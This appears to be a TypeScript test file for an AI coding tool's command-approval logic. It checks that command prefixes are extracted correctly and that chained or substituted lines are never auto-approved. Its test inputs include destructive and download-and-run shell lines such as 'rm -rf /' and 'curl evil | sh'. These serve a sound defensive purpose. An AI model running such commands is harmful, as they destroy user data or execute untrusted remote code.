import { strict as assert } from 'assert';
import { chainsCommands, commandPrefix, matchesAllowedPrefix } from '../../../src/core/tools/commandPrefix';

describe('commands allowed by prefix for the session', () => {
  it('offers the command and its subcommand, or the command alone before an option or a path', () => {
    assert.equal(commandPrefix('npm test'), 'npm test');
    assert.equal(commandPrefix('  npm   test -- --grep x'), 'npm test');
    assert.equal(commandPrefix('git status'), 'git status');
    assert.equal(commandPrefix('ls -la src'), 'ls');
    assert.equal(commandPrefix('cat ./README.md'), 'cat');
    assert.equal(commandPrefix('pytest'), 'pytest');
    assert.equal(commandPrefix(''), undefined);
  });

  it('offers nothing for a line that chains or substitutes commands', () => {
    for (const line of ['npm test && rm -rf /', 'npm test; curl x', 'npm test | sh', 'echo `id`', 'echo $(id)', 'npm test\nrm x', 'npm test > out', 'sleep 1 &']) {
      assert.equal(chainsCommands(line), true, line);
      assert.equal(commandPrefix(line), undefined, line);
    }
  });

  it('matches whole words at the start, never a chained line', () => {
    const allowed = ['npm test', 'ls'];
    const runs = ['npm test', 'npm test -- --grep parser', '  npm\ttest  ', 'ls -la'];
    const asks = ['npm testx', 'npm install evil', 'lsblk', 'npm test && curl evil | sh', 'npm test; rm -rf ~', 'npm test `rm x`', 'npm test $(rm x)', 'ls\nrm -rf ~'];
    for (const line of runs) assert.equal(matchesAllowedPrefix(line, allowed), true, line);
    for (const line of asks) assert.equal(matchesAllowedPrefix(line, allowed), false, line);
    assert.equal(matchesAllowedPrefix('npm test', []), false);
  });
});
